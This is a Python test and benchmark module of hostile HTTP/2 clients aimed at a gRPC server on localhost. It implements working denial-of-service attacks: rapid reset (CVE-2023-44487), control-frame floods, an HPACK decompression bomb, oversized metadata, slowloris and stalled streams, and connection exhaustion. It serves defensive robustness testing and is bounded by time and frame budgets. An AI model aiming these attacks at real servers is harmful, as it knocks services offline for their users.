"""Misbehaving HTTP/2 peers, written with the h2 library, for the tests and the benchmark.

Each attack talks to 127.0.0.1 only, stops by itself after its time or frame budget, and
reports what the server did to it: how many connections it opened, how many the server closed
with GOAWAY (and with which error codes), and how many the server simply dropped.
"""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from hpack import Decoder, Encoder

GET_CAMPAIGN = "/campaign.v1.CampaignService/GetCampaign"
WATCH_STATUS = "/campaign.v1.CampaignService/WatchStatus"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
UNKNOWN_METHOD = "/campaign.v1.CampaignService/NoSuchMethod"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# HTTP/2 frame types and flags, for the frames h2 will not send as an attacker does.
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8


@dataclass
class Outcome:
    """What the server did to the attacker."""

    connections: int = 0
    goaways: Counter[int] = field(default_factory=Counter)  # by HTTP/2 error code
    dropped: int = 0  # connections closed without a GOAWAY (reset or EOF)
    throttled: int = 0  # connections the server stopped reading (a send timed out)
    refused_streams: int = 0  # RST_STREAM from the server
    frames_sent: int = 0
    responses: int = 0  # response HEADERS received

    @property
    def closed(self) -> int:
        return sum(self.goaways.values()) + self.dropped

    def add(self, other: Outcome) -> None:
        self.connections += other.connections
        self.goaways.update(other.goaways)
        self.dropped += other.dropped
        self.throttled += other.throttled
        self.refused_streams += other.refused_streams
        self.frames_sent += other.frames_sent
        self.responses += other.responses


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload
    )


def grpc_message(body: bytes, declared: int | None = None) -> bytes:
    """A gRPC length-prefixed message; declared > len(body) makes a truncated one."""
    return struct.pack(">BI", 0, len(body) if declared is None else declared) + body


# Who the attacker is: HOSTILE_SOURCE, a local address to send from (127.0.0.2 stands for
# another host, still sending to 127.0.0.1), and HOSTILE_TOKEN, a bearer token its calls carry.
def connect(port: int, timeout: float) -> socket.socket:
    source = os.environ.get("HOSTILE_SOURCE")
    return socket.create_connection(
        ("127.0.0.1", port), timeout=timeout, source_address=(source, 0) if source else None
    )


def request_headers(method: str, *extra: tuple[str, str]) -> list[tuple[str, str]]:
    token = os.environ.get("HOSTILE_TOKEN")
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", method),
        (":authority", "127.0.0.1"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *([("authorization", f"Bearer {token}")] if token else []),
        *extra,
    ]


class Peer:
    """One raw HTTP/2 client connection. It writes frames as an attacker does, whatever the
    protocol's state, and reads the server's frames itself: h2's state machine would reject
    the server's answers to streams it was never told of."""

    def __init__(self, port: int, *, window: int | None = None, timeout: float = 5.0) -> None:
        self.sock = connect(port, timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = Encoder()
        self._decoder = Decoder()
        self._decoder.max_allowed_table_size = 1 << 16
        # grpc-status of each stream answered so far (trailers, or trailers-only headers).
        self.statuses: dict[int, int] = {}
        # The google.rpc.Status of each stream answered with one, as sent (base64).
        self.status_details: dict[int, bytes] = {}
        self.goaway: int | None = None
        self.dropped = False
        self.throttled = False
        self.refused = 0
        self.responses = 0
        self.frames_sent = 0
        self.received = 0  # DATA bytes
        self._next_stream = 1
        self._buffer = b""
        settings = b"" if window is None else struct.pack(">HI", 0x4, window)
        self.flush(PREFACE + frame(SETTINGS, 0, 0, settings))

    @property
    def closed(self) -> bool:
        return self.goaway is not None or self.dropped

    @property
    def done(self) -> bool:
        """Closed by the server, or no longer read by it."""
        return self.closed or self.throttled

    def flush(self, raw: bytes, frames: int = 1) -> None:
        if raw and not self.done:
            try:
                self.sock.sendall(raw)
                self.frames_sent += frames
            except TimeoutError:
                self.throttled = True
            except OSError:
                self.dropped = True

    def next_stream(self) -> int:
        stream = self._next_stream
        self._next_stream += 2
        return stream

    def headers(
        self, stream: int, method: str, *extra: tuple[str, str], end_stream: bool = False
    ) -> bytes:
        block = self.encoder.encode(request_headers(method, *extra))
        return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, block)

    def poll(self, wait: float = 0.0) -> None:
        """Reads what has arrived (waiting up to wait seconds for the first bytes); answers
        the server's SETTINGS, as any client must, and nothing else."""
        if self.closed:
            return
        self.sock.settimeout(wait if wait > 0 else 0.0)
        try:
            while not self.closed:
                try:
                    data = self.sock.recv(1 << 20)
                except (BlockingIOError, TimeoutError):
                    return
                except OSError:
                    self.dropped = True
                    return
                if not data:
                    self.dropped = True
                    return
                self._read_frames(data)
                self.sock.settimeout(0.0)
        finally:
            with contextlib.suppress(OSError):
                self.sock.settimeout(0.0)

    def _read_frames(self, data: bytes) -> None:
        buffer = self._buffer + data
        offset = 0
        while offset + 9 <= len(buffer):
            length = int.from_bytes(buffer[offset : offset + 3], "big")
            if offset + 9 + length > len(buffer):
                break
            kind, flags = buffer[offset + 3], buffer[offset + 4]
            payload = buffer[offset + 9 : offset + 9 + length]
            offset += 9 + length
            if kind == 7:  # GOAWAY: last stream id, then the error code
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == RST_STREAM:
                self.refused += 1
            elif kind == HEADERS:
                self.responses += 1
                stream = int.from_bytes(buffer[offset - 9 - length + 5 : offset - length], "big")
                self._read_status(stream & 0x7FFFFFFF, flags, payload)
            elif kind == DATA:
                self.received += length
            elif kind == SETTINGS and not flags & 0x1:
                self.flush(frame(SETTINGS, 0x1, 0))
            elif kind == PING and not flags & 0x1:
                self.flush(frame(PING, 0x1, 0, payload))
        self._buffer = buffer[offset:]

    def _read_status(self, stream: int, flags: int, payload: bytes) -> None:
        if flags & 0x8:  # PADDED
            payload = payload[1 : len(payload) - payload[0]]
        if flags & 0x20:  # PRIORITY
            payload = payload[5:]
        for name, value in self._decoder.decode(payload):
            if name in ("grpc-status", b"grpc-status"):
                self.statuses[stream] = int(value)
            elif name in ("grpc-status-details-bin", b"grpc-status-details-bin"):
                self.status_details[stream] = value if isinstance(value, bytes) else value.encode()

    def wait_closed(self, within: float) -> bool:
        deadline = time.monotonic() + within
        while not self.closed and time.monotonic() < deadline:
            self.poll(0.2)
        return self.closed

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()

    def outcome(self) -> Outcome:
        result = Outcome(
            connections=1,
            refused_streams=self.refused,
            responses=self.responses,
            frames_sent=self.frames_sent,
        )
        if self.goaway is not None:
            result.goaways[self.goaway] += 1
        elif self.dropped:
            result.dropped = 1
        elif self.throttled:
            result.throttled = 1
        return result


@contextlib.contextmanager
def peer(port: int, **options: object) -> Iterator[Peer]:
    p = Peer(port, **options)  # type: ignore[arg-type]
    try:
        yield p
    finally:
        p.close()


# -- attacks --------------------------------------------------------------------------------
# Each takes the server's port and a time budget, and returns the Outcome; the frame loops are
# bounded by both time and count.

Attack = Callable[[int, float], Outcome]


def _on_connections(port: int, seconds: float, one: Callable[[Peer, float], None]) -> Outcome:
    """Runs one connection's attack after another until the time is up."""
    total = Outcome()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            p = Peer(port)
        except OSError:
            time.sleep(0.01)
            continue
        try:
            one(p, deadline)
            p.poll(0.05)
        finally:
            p.close()
        total.add(p.outcome())
    return total


def rapid_reset(method: str, per_write: int = 100, per_connection: int = 200_000) -> Attack:
    """HEADERS then RST_STREAM(CANCEL), stream after stream (CVE-2023-44487); after
    per_connection streams a connection waits (a little) to see whether it is closed."""

    def one(p: Peer, deadline: float) -> None:
        sent = 0
        while not p.done and sent < per_connection and time.monotonic() < deadline:
            burst = bytearray()
            for _ in range(per_write):
                stream = p.next_stream()
                burst += p.headers(stream, method)
                burst += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            sent += per_write
            p.flush(bytes(burst), 2 * per_write)
            p.poll()
        p.wait_closed(min(2.0, max(0.0, deadline - time.monotonic())))

    return lambda port, seconds: _on_connections(port, seconds, one)


def _flood(
    make: Callable[[Peer], bytes], per_write: int = 200, *, reads_answers: bool = True
) -> Attack:
    def one(p: Peer, deadline: float) -> None:
        while not p.done and time.monotonic() < deadline:
            p.flush(make(p) * per_write, per_write)
            if reads_answers:
                p.poll()

    return lambda port, seconds: _on_connections(port, seconds, one)


ping_flood = _flood(lambda p: frame(PING, 0, 0, b"12345678"))
# Every SETTINGS frame is answered with an ACK: the flood that does harm leaves them unread,
# so that they pile up in the server. A peer that reads them as fast as the server writes them
# is only served, faster or slower with the machine's speed.
settings_flood = _flood(
    lambda p: frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535)), reads_answers=False
)
window_update_flood = _flood(lambda p: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def empty_data_flood() -> Attack:
    """One stream opened, then zero-length DATA frames on it without end."""

    def one(p: Peer, deadline: float) -> None:
        stream = p.next_stream()
        p.flush(p.headers(stream, GET_CAMPAIGN))
        while not p.done and time.monotonic() < deadline:
            p.flush(frame(DATA, 0, stream) * 200, 200)
            p.poll()

    return lambda port, seconds: _on_connections(port, seconds, one)


def _header_attack(block: Callable[[Peer], bytes], streams: int = 1000) -> Attack:
    """One abusive header block (HEADERS and CONTINUATION frames) per stream."""

    def one(p: Peer, deadline: float) -> None:
        for _ in range(streams):
            if p.done or time.monotonic() >= deadline:
                return
            stream = p.next_stream()
            raw = block(p)
            chunks = [raw[i : i + 16384] for i in range(0, len(raw), 16384)]
            wire = frame(
                HEADERS, END_STREAM | (END_HEADERS if len(chunks) == 1 else 0), stream, chunks[0]
            )
            for n, chunk in enumerate(chunks[1:], 2):
                wire += frame(CONTINUATION, END_HEADERS if n == len(chunks) else 0, stream, chunk)
            p.flush(wire, len(chunks))
            p.poll(0.005)

    return lambda port, seconds: _on_connections(port, seconds, one)


def hpack_bomb() -> Attack:
    """A 4 KiB header value put in the dynamic table, then named by its index 4,000 times
    in the same block: 16 KiB on the wire, 16 MiB once expanded."""
    value = "v" * 4000

    def block(p: Peer) -> bytes:
        first = p.encoder.encode(request_headers(GET_CAMPAIGN, ("x-bomb", value)))
        # Index 62 is the newest entry of the dynamic table: the x-bomb header just added.
        return first + bytes([0x80 | 62]) * 4000

    return _header_attack(block)


def many_metadata() -> Attack:
    extra = [(f"x-m{i}", "1") for i in range(5000)]
    raw = Encoder().encode(request_headers(GET_CAMPAIGN, *extra), huffman=False)
    return _header_attack(lambda p: raw)


def huge_metadata_value() -> Attack:
    """A 1 MiB header value, in CONTINUATION frames of 16 KiB each."""
    raw = Encoder().encode(request_headers(GET_CAMPAIGN, ("x-big", "b" * (1 << 20))), huffman=False)
    return _header_attack(lambda p: raw, streams=100)


def _hold_sockets(port: int, seconds: float, count: int, greet: bytes | None) -> Outcome:
    """Opens count sockets (sending greet, if any, then nothing) and sees which are closed."""
    result = Outcome()
    socks: list[socket.socket] = []
    deadline = time.monotonic() + seconds
    try:
        for _ in range(count):
            if time.monotonic() >= deadline:
                break
            try:
                s = connect(port, 2)
            except OSError:
                result.dropped += 1  # refused at once: counted as closed by the server
                result.connections += 1
                continue
            if greet is not None:
                s.sendall(greet)
            s.setblocking(False)
            socks.append(s)
            result.connections += 1
        open_socks = set(socks)
        while open_socks and time.monotonic() < deadline:
            for s in list(open_socks):
                try:
                    data = s.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:
                    result.dropped += 1
                    open_socks.discard(s)
                elif _has_goaway(data):
                    result.goaways[0] += 1
                    open_socks.discard(s)
            time.sleep(0.05)
    finally:
        for s in socks:
            s.close()
    return result


def _has_goaway(data: bytes) -> bool:
    """Whether the bytes hold a GOAWAY frame (a server's first bytes: SETTINGS, then maybe it)."""
    offset = 0
    while offset + 9 <= len(data):
        length = int.from_bytes(data[offset : offset + 3], "big")
        if data[offset + 3] == 7:
            return True
        offset += 9 + length
    return False


def silent_connections(count: int) -> Attack:
    return lambda port, seconds: _hold_sockets(port, seconds, count, None)


def preface_only_connections(count: int) -> Attack:
    return lambda port, seconds: _hold_sockets(
        port, seconds, count, PREFACE + frame(SETTINGS, 0, 0)
    )


def connection_churn() -> Attack:
    def attack(port: int, seconds: float) -> Outcome:
        result = Outcome()
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and result.connections < 200_000:
            with contextlib.suppress(OSError):
                s = connect(port, 2)
                s.sendall(PREFACE + frame(SETTINGS, 0, 0))
                s.close()
            result.connections += 1
        return result

    return attack


def _held_streams(
    port: int,
    seconds: float,
    streams: int,
    open_one: Callable[[Peer], bytes],
    window: int | None = None,
) -> Outcome:
    """Opens streams, 100 to a connection, holds them until the time is up, and reports what
    the server did to the connections."""
    result = Outcome()
    peers: list[Peer] = []
    deadline = time.monotonic() + seconds
    opened = 0
    try:
        while time.monotonic() < deadline and opened < streams:
            try:
                p = Peer(port, window=window)
            except OSError:
                break
            peers.append(p)
            burst = b"".join(open_one(p) for _ in range(min(100, streams - opened)))
            opened += min(100, streams - opened)
            p.flush(burst)
            p.poll()
        while time.monotonic() < deadline:
            for p in peers:
                p.poll()
            time.sleep(0.1)
    finally:
        for p in peers:
            result.add(p.outcome())
            p.close()
    return result


def slowloris(streams: int = 10_000) -> Attack:
    """Streams whose request message never completes: 5 of its 100 declared bytes."""

    def open_one(p: Peer) -> bytes:
        stream = p.next_stream()
        return p.headers(stream, GET_CAMPAIGN) + frame(
            DATA, 0, stream, grpc_message(b"\x0a\x03abc", declared=100)
        )

    return lambda port, seconds: _held_streams(port, seconds, streams, open_one)


def unanswerable_unary(truncated: bool, streams: int = 20_000) -> Attack:
    """Unary calls half-closed with no message, or with a truncated one."""

    def open_one(p: Peer) -> bytes:
        stream = p.next_stream()
        if not truncated:
            return p.headers(stream, GET_CAMPAIGN, end_stream=True)
        return p.headers(stream, GET_CAMPAIGN) + frame(
            DATA, END_STREAM, stream, grpc_message(b"\x0a", declared=50)
        )

    return lambda port, seconds: _held_streams(port, seconds, streams, open_one)


def health_watches(streams: int) -> Attack:
    """Health Watch streams opened and held."""

    def open_one(p: Peer) -> bytes:
        stream = p.next_stream()
        return p.headers(stream, HEALTH_WATCH) + frame(DATA, END_STREAM, stream, grpc_message(b""))

    return lambda port, seconds: _held_streams(port, seconds, streams, open_one)


def stalled_watcher(request: bytes, streams: int = 100) -> Attack:
    """WatchStatus streams that never read: their receive window stays at zero."""

    def open_one(p: Peer) -> bytes:
        stream = p.next_stream()
        return p.headers(stream, WATCH_STATUS) + frame(
            DATA, END_STREAM, stream, grpc_message(request)
        )

    return lambda port, seconds: _held_streams(port, seconds, streams, open_one, window=0)
